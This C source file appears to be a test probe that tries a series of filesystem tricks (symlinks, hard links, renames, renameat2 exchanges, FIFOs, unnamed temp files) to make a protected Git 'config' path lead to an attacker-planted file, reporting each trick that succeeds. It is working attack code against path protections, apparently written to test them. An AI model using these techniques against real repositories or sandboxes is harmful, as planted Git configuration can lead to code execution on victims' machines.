// Where "DIR/NAME" is protected and does not exist yet: makes the same path lead to a file of the attacker's, by a link
// in the place of DIR, or by a directory that was filled elsewhere; and makes a file in that place, which Git takes for
// the name of a directory. What DIR is, it is told; NAME is "config".
#include "attack.h"
#include <sys/un.h>

static const char *dir;

static void try(const char *how, int result) {
    struct stat found;
    char config[256];
    snprintf(config, sizeof config, "%s/config", dir);
    int leads = access(config, F_OK) == 0;
    int is_file = lstat(dir, &found) == 0 && !S_ISDIR(found.st_mode);
    if (leads || is_file) {
        fprintf(stderr, "%s (%d): ", how, result);
        escaped(dir);
    }
    rmdir(dir);
}

static void fill(void) {
    mkdir("filled", 0700);
    int fd = open("filled/config", O_CREAT | O_WRONLY | O_TRUNC, 0600);
    if (fd < 0 || write(fd, "planted\n", 8) != 8) exit(3);
    close(fd);
}

int main(int argc, char **argv) {
    if (argc != 2) return 2;
    dir = argv[1];
    fill();
    try("symlink", symlink("filled", dir));
    int fd = open(dir, O_CREAT | O_WRONLY, 0600);
    try("a file", fd);
    fd = open("link-source", O_CREAT | O_WRONLY, 0600);
    try("a hard link", link("link-source", dir));
    try("rename of a file", rename("link-source", dir));
    unlink("a-link");
    if (symlink("filled", "a-link") != 0) return 3;
    try("rename of a link", rename("a-link", dir));
    try("exchange", renameat2(AT_FDCWD, "a-link", AT_FDCWD, dir, RENAME_NOREPLACE));
    try("link of a link", linkat(AT_FDCWD, "a-link", AT_FDCWD, dir, 0));
    try("rename of a directory", rename("filled", dir));
    fill();
    if (mkdir(dir, 0700) == 0)
        try("exchange with a directory", renameat2(AT_FDCWD, "a-link", AT_FDCWD, dir, RENAME_EXCHANGE));
    try("a FIFO", mkfifo(dir, 0600) == 0 ? (unlink(dir), 0) : -1);
    int unnamed = open(".", O_TMPFILE | O_RDWR, 0600);
    char self[64];
    snprintf(self, sizeof self, "/proc/self/fd/%d", unnamed);
    try("a file without a name", linkat(AT_FDCWD, self, AT_FDCWD, dir, AT_SYMLINK_FOLLOW));
    return 0;
}
